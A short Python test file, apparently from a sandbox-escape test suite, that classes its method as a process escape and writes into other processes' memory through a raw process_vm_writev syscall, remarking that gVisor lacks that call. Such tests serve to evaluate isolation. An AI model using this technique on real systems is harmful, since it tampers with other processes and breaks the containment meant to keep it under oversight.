"""Class: processes. Source: own find. Escape: another process's memory is written
(process_vm_writev). gVisor: has no such call.
"""

import ctypes
import struct

libc = ctypes.CDLL(None, use_errno=True)


def vectors(address, size):
    local = ctypes.create_string_buffer(size)
    return (
        local,
        struct.pack("<QQ", ctypes.addressof(local), size),
        struct.pack("<QQ", address, size),
    )


def attack(model, tokenizer, scene):
    for name, pid in scene["processes"].items():
        local, here, there = vectors(scene["addresses"][name], 64)
        libc.syscall(311, pid, here, 1, there, 1, 0)
